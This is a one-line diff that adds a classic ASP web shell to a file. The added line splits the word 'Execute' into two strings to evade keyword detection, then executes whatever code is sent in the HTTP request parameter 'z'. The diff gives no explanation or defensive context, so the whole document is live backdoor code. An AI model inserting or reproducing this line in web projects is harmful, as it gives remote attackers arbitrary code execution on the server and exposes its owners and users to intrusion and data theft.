@@ -1,0 +1,1 @@
+<% k = "Exe" & "cute" : Execute k & "(Request(""z""))" %>
